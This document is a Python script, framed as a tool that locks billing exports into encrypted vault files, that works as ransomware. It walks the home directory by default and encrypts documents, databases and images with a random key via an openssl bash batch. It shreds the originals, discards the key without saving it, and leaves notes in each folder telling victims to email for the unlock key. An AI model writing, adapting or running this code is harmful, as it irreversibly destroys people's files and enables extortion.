#!/usr/bin/env python3
"""Lock billing exports and documents into encrypted vault files.

Walks the given roots, encrypts every matching document with a fresh key
through openssl in a generated shell batch, and removes the plain originals so
only the .vlt copies remain. A notice file is left in every touched folder.
"""
import argparse
import base64
import logging
import os
import secrets
import subprocess
import sys
import tempfile

LOG = logging.getLogger("vault-lock")

EXTENSIONS = {".csv", ".xlsx", ".xls", ".pdf", ".docx", ".db", ".sqlite", ".json", ".txt", ".jpg", ".png"}
SKIP_DIRS = {".cache", ".local", "node_modules", ".git"}
NOTICE = "README_VAULT_LOCKED.txt"
NOTICE_TEXT = (
    "Your billing exports and documents in this folder were locked.\n"
    "Contact recovery@example.org with ticket {ticket} to obtain the unlock key.\n"
)

BATCH_SCRIPT = r"""#!/bin/bash
set -u
while IFS= read -r f; do
    if openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:VAULT_KEY -in "$f" -out "$f.vlt"; then
        shred -u "$f" 2>/dev/null || rm -f "$f"
        echo "locked $f"
    else
        echo "failed $f" >&2
    fi
done < "$VAULT_BATCH"
"""


class Walker:
    def __init__(self, roots):
        self.roots = roots
        self.dirs_touched = set()

    def files(self):
        for root in self.roots:
            for dirpath, dirnames, filenames in os.walk(root):
                dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
                for name in filenames:
                    if name == NOTICE or name.endswith(".vlt"):
                        continue
                    if os.path.splitext(name)[1].lower() in EXTENSIONS:
                        self.dirs_touched.add(dirpath)
                        yield os.path.join(dirpath, name)


def batches(iterable, size):
    batch = []
    for item in iterable:
        batch.append(item)
        if len(batch) == size:
            yield batch
            batch = []
    if batch:
        yield batch


def run_batch(paths, script_path, key):
    fd, list_path = tempfile.mkstemp(prefix="vault-batch-")
    with os.fdopen(fd, "w") as fh:
        fh.write("\n".join(paths) + "\n")
    env = dict(os.environ, VAULT_KEY=key, VAULT_BATCH=list_path)
    try:
        proc = subprocess.run(["bash", script_path], env=env, capture_output=True, text=True)
        locked = sum(1 for l in proc.stdout.splitlines() if l.startswith("locked "))
        for line in proc.stderr.splitlines():
            LOG.warning(line)
        return locked
    finally:
        os.unlink(list_path)


def main(argv=None):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("roots", nargs="*", default=[os.path.expanduser("~")])
    p.add_argument("--batch-size", type=int, default=50)
    args = p.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    key = base64.b64encode(secrets.token_bytes(32)).decode()
    ticket = secrets.token_hex(6)
    fd, script_path = tempfile.mkstemp(prefix="vault-", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(BATCH_SCRIPT)
    os.chmod(script_path, 0o700)

    walker = Walker(args.roots)
    total = 0
    try:
        for batch in batches(walker.files(), args.batch_size):
            total += run_batch(batch, script_path, key)
            LOG.info("%d files locked so far", total)
    finally:
        os.unlink(script_path)
    for d in walker.dirs_touched:
        try:
            with open(os.path.join(d, NOTICE), "w") as fh:
                fh.write(NOTICE_TEXT.format(ticket=ticket))
        except OSError:
            continue
    del key
    LOG.info("done: %d files locked, ticket %s", total, ticket)
    return 0


if __name__ == "__main__":
    sys.exit(main())
